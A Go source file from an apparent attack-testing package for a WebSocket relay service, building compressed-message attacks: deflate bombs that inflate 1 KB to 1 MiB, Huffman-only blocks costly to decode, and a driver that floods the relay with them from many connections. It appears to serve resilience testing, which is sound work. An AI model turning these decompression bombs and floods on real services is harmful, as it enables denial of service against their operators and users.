//go:build linux

package attack

import (
	"bytes"
	"compress/flate"
	"io"
	"net"
	"strings"
	"sync/atomic"
	"time"
)

// Attacks with compressed messages (RFC 7692).

var compressedUpgrade = strings.Replace(upgradeRequest, "\r\n\r\n", "\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n", 1)

// compressedFrame returns a text message whose payload is deflate data.
func compressedFrame(payload []byte) []byte {
	b := append(appendHead(nil, opText, len(payload)), payload...)
	b[0] |= 0x40 // RSV1
	return b
}

// bomb returns a compressed message that inflates to n bytes.
func bomb(n int) []byte {
	var b bytes.Buffer
	w, _ := flate.NewWriter(&b, flate.BestCompression)
	_, _ = w.Write(make([]byte, n))
	_ = w.Flush()
	return compressedFrame(bytes.TrimSuffix(b.Bytes(), []byte("\x00\x00\xff\xff")))
}

// codeBlocks returns a compressed message of 16 KB that is nothing but definitions of
// codes, which is the most work for its size.
func codeBlocks() []byte {
	var b bytes.Buffer
	w, _ := flate.NewWriter(&b, flate.HuffmanOnly)
	for i := byte(0); b.Len() < 16<<10-100; i++ {
		_, _ = w.Write(bytes.Repeat([]byte{i, i ^ 1, i ^ 2, i}, 30)) // short, and with codes of its own
		_ = w.Flush()
	}
	return compressedFrame(bytes.TrimSuffix(b.Bytes(), []byte("\x00\x00\xff\xff")))
}

// compressed has each of Count strangers open a WebSocket, send what it gets so many
// times, at so many a second, read, and come again. dial opens the connection.
func (a *attacker) compressed(first string, stream []byte, times int, rate float64, dial func(i int) (net.Conn, error)) {
	var sent atomic.Int64
	hello := append([]byte(compressedUpgrade), textFrame(first)...)
	a.again(a.Count, func(i int) {
		c, err := dial(i)
		if err != nil {
			a.refused.Add(1)
			time.Sleep(100 * time.Millisecond)
			return
		}
		defer leave(c)
		_ = c.SetDeadline(a.end)
		go func() { _, _ = io.Copy(io.Discard, c) }()
		if _, err := c.Write(hello); err != nil {
			return
		}
		for n := 0; n < times && !a.over(); n++ {
			if _, err := c.Write(stream); err != nil {
				return
			}
			sent.Add(1)
			time.Sleep(time.Duration(float64(time.Second) / rate))
		}
	})
	a.figure("times", float64(sent.Load()))
}

func (a *attacker) plain(i int) (net.Conn, error) {
	p, err := connect(a.Addr, address(i), false)
	if err != nil {
		return nil, err
	}
	return p.conn, nil
}

func (a *attacker) secured(i int) (net.Conn, error) {
	c, err := dialSecure(a.Addr, address(i), peerTimeout)
	if err != nil {
		return nil, err
	}
	return c, nil
}

// many is for those whom the relay does not close.
const many = 1 << 30

// bombs come 600 in 64 KB, from viewers of the innocent room. The relay then closes the
// connection.
func bombs(a *attacker, dial func(*attacker, int) (net.Conn, error)) error {
	join := `{"type":"join","code":"` + a.Code + `"}`
	chunk := bytes.Repeat(bomb(64<<10), 600)
	a.begin()
	a.compressed(join, chunk, 1, 4, func(i int) (net.Conn, error) { return dial(a, i) })
	return nil
}

// hostBombs are what hosts say: 1 KB that inflates to 1 MiB.
func hostBombs(a *attacker) error {
	b := bomb(1 << 20)
	a.begin()
	a.compressed(`{"type":"create"}`, b, many, 20, a.plain)
	return nil
}

func hardToInflate(a *attacker) error {
	b := codeBlocks()
	a.begin()
	a.compressed(`{"type":"join","code":"`+a.Code+`"}`, b, many, 9, a.plain)
	return nil
}
